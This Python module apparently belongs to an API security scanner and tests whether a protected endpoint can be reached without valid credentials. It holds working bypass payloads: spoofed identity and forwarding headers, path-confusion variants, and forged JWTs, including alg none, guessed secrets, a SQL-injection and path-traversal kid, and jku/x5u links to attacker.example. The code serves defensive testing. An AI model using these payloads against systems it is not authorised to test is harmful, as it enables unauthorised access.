"""Getting in without a credential, or with one that is not good."""

import base64
import hashlib
import hmac
import json
import time

from report import Finding, Skipped, check

REFUSALS = range(400, 600)


def refused(heard, what):
    """What was seen of something that must not get in."""
    text = f"{what}: {heard}"
    return text if not heard.answers or heard.status in REFUSALS else Finding(text + ": let in")


def needs_credential(target):
    if target.ask().status not in (401, 403):
        raise Skipped(f"{target.path} needs no credential: nothing to get around")


def pad(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def part(**fields):
    return pad(json.dumps(fields).encode())


def unpad(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@check("authentication", "no credential")
def no_credential(target):
    """Without one, by every method."""
    for method in ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND"):
        heard = target.ask(method)
        if method == "OPTIONS" and heard.status == 204:
            yield f"{method}: {heard}, a preflight's answer"
            continue
        yield refused(heard, f"{method} without one")


@check("authentication", "worthless credentials")
def worthless(target):
    """Empty, default and foreign ones."""
    needs_credential(target)
    for name, value in (("x-api-key", ""), ("x-api-key", "null"), ("x-api-key", "undefined"),
                        ("x-api-key", "test"), ("x-api-key", "*"), ("Authorization", "Bearer"),
                        ("Authorization", "Bearer null"), ("Authorization", "Bearer undefined"),
                        ("Authorization", "Basic YWRtaW46YWRtaW4="), ("Authorization", "admin"),
                        ("Authorization", 'Digest username="admin"'), ("Cookie", "session=admin"),
                        ("Proxy-Authorization", "Bearer x")):
        yield refused(target.ask(headers=[(name, value)]), f"{name}: {value}")


@check("authentication", "other spellings of path")
def paths(target):
    """The protected path, written so that two parsers may take it for two."""
    needs_credential(target)
    path = target.path.split("?")[0]
    last = path.rstrip("/").rsplit("/", 1)[-1]
    front = path[:len(path.rstrip("/")) - len(last)] or "/"
    for other in (f"/{path}", f"/.{path}", f"/x/..{path}", f"/%2e{path}", f"/x/%2e%2e{path}",
                  f"{path}/..;/", f"{path};x=y", f"{path}%00", f"{path}%20", f"{path}%2f",
                  f"{path}/.", f"{path}?", f"{path}#", f"{front}{last.upper()}", f"{path}.json",
                  f"{front}%{ord((last or 'a')[0]):02x}{last[1:]}", f"{path}\\..\\x",
                  f"http://{target.authority}{path}", f"/public/..%2f{path.lstrip('/')}"):
        yield refused(target.ask(path=other), other)


@check("authentication", "headers that reroute")
def reroute(target):
    """Headers by which some stacks take another path, method or identity."""
    needs_credential(target)
    for name, value in (("X-Original-URL", "/"), ("X-Rewrite-URL", "/"), ("X-HTTP-Method", "GET"),
                        ("X-HTTP-Method-Override", "OPTIONS"), ("X-Forwarded-Prefix", "/public"),
                        ("X-Auth-Identity", "admin"), ("X-Remote-User", "admin"),
                        ("X-Forwarded-User", "admin"), ("X-Authenticated", "true"),
                        ("X-Client-Verify", "SUCCESS"), ("X-SSL-Client-Verify", "SUCCESS")):
        yield refused(target.ask(headers=[(name, value)]), f"{name}: {value}")


@check("authentication", "an address of trust")
def addresses(target):
    """A client that says it is somebody near."""
    needs_credential(target)
    for name in ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP", "Client-IP",
                 "CF-Connecting-IP", "Forwarded"):
        value = "for=127.0.0.1" if name == "Forwarded" else "127.0.0.1"
        yield refused(target.ask(headers=[(name, value)]), f"{name}: {value}")


@check("authentication", "tokens nobody signed")
def unsigned(target):
    """alg none, guessed secrets, keys that the token brings along, paths and SQL for a kid."""
    needs_credential(target)
    now = int(time.time())
    claims = dict(iss=f"https://{target.host}", sub="admin", aud="api", iat=now, exp=now + 600,
                  scope="admin")
    if target.token and target.token.count(".") == 2:
        claims = json.loads(unpad(target.token.split(".")[1]))
    payload = part(**claims)
    jwk = {"kty": "oct", "k": pad(b"secret"), "kid": "x"}

    def signed(secret, **header):
        text = f"{part(**header)}.{payload}"
        return f"{text}.{pad(hmac.new(secret, text.encode(), hashlib.sha256).digest())}"
    tokens = [(f"alg {alg}", f"{part(alg=alg, typ='JWT')}.{payload}.")
              for alg in ("none", "None", "NONE", "nOnE", "")]
    tokens += [(f"HS256 by {secret!r}", signed(secret, alg="HS256", typ="JWT"))
               for secret in (b"secret", b"", b"password", b"your-256-bit-secret", b"changeme")]
    tokens += [
        ("kid of a file", signed(b"", alg="HS256", kid="../../../../dev/null")),
        ("kid of SQL", signed(b"secret", alg="HS256", kid="x' UNION SELECT 'secret")),
        ("its own key", signed(b"secret", alg="HS256", jwk=jwk)),
        ("jku", signed(b"secret", alg="HS256", jku="https://attacker.example/jwks.json")),
        ("x5u", signed(b"secret", alg="HS256", x5u="https://attacker.example/x.pem")),
        ("crit", signed(b"secret", alg="HS256", crit=["b64"], b64=False)),
        ("no signature", f"{part(alg='ES256')}.{payload}"),
        ("five parts", f"{part(alg='dir', enc='A256GCM')}..{pad(b'x' * 12)}.{payload}.{pad(b'x' * 16)}"),
    ]
    for what, token in tokens:
        yield refused(target.ask(headers=[("Authorization", f"Bearer {token}")]), what)


@check("authentication", "a good token, changed")
def changed_token(target):
    """Another payload, header or signature around what was signed."""
    if not target.token or target.token.count(".") != 2:
        raise Skipped("needs --token")
    if target.ask(headers=target.credentials()).status in (401, 403):
        raise Skipped("the token given is not good")
    header, payload, signature = target.token.split(".")
    claims, top = json.loads(unpad(payload)), json.loads(unpad(header))
    for what, token in (
            ("another subject", f"{header}.{part(**claims | {'sub': 'admin'})}.{signature}"),
            ("a later end", f"{header}.{part(**claims | {'exp': 4_000_000_000})}.{signature}"),
            ("alg none", f"{part(**top | {'alg': 'none'})}.{payload}.{signature}"),
            ("HS256", f"{part(**top | {'alg': 'HS256'})}.{payload}.{signature}"),
            ("no signature", f"{header}.{payload}."),
            ("half a signature", f"{header}.{payload}.{signature[:len(signature) // 2]}"),
            ("zeroes for a signature", f"{header}.{payload}.{'A' * len(signature)}"),
            ("padding", f"{header}.{payload}.{signature}=="),
            ("a space", f"{header}.{payload}. {signature}")):
        yield refused(target.ask(headers=[("Authorization", f"Bearer {token}")]), what)


@check("authentication", "a good key, changed")
def changed_key(target):
    """Shorter, longer, in another case, in the query, twice."""
    if not target.key:
        raise Skipped("needs --key")
    needs_credential(target)
    key = target.key
    if target.ask(headers=target.credentials()).status in (401, 403):
        raise Skipped("the key given is not good")
    for what, value in (("one less", key[:-1]), ("one more", key + "x"), ("upper case", key.upper()),
                        ("lower case", key.lower()), ("a NUL behind", key + "%00"),
                        ("the first half", key[:len(key) // 2]), ("a list", f"{key}, {key}x"),
                        ("its hash", hashlib.sha256(key.encode()).hexdigest())):
        if value != key:
            yield refused(target.ask(headers=[("x-api-key", value)]), what)
    joint = "&" if "?" in target.path else "?"
    for name in ("api_key", "apikey", "key", "access_token", "token"):
        yield refused(target.ask(path=f"{target.path}{joint}{name}={key}"), f"?{name}=")
    yield refused(target.ask(headers=[("x-api-key", "wrong"), ("x-api-key", key)]), "after a wrong one")
